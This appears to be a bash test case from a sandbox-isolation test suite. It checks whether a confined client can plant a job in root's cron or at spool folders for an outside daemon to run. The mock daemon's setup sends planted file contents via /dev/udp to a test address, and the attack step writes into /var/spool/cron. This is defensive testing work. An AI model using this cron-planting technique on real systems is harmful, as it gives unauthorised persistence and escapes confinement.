# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A job for at or cron, for a daemon outside to run'
origin='RESEARCH §2.74'
reason='silent: their folders are not there'
forms=run verdict=masked who=root
# A daemon like theirs: it runs what lies in the folders, outside of the job.
prepare() {
    h c mkdir -p /var/spool/cron/crontabs /var/spool/cron/atjobs
    start "$T/cron.log" c bash -c 'for i in {1..600}; do for d in /var/spool/cron/crontabs /var/spool/cron/atjobs; do [ ! -e $d/red ] || { cat $d/red > /dev/udp/198.18.3.66/9999; rm $d/red; exit; }; done; sleep 0.05; done'
}
picked_up() { ! h c test -e /var/spool/cron/crontabs/red; }
attack() {
    client sh -c 'for d in crontabs atjobs; do cd /var/spool/cron/$d && echo "$0" > .red && mv .red red; done' "$1"
    eventually 15 picked_up || true
    sleep 0.5 # for another look
    h c rm -f /var/spool/cron/crontabs/red /var/spool/cron/atjobs/red
}
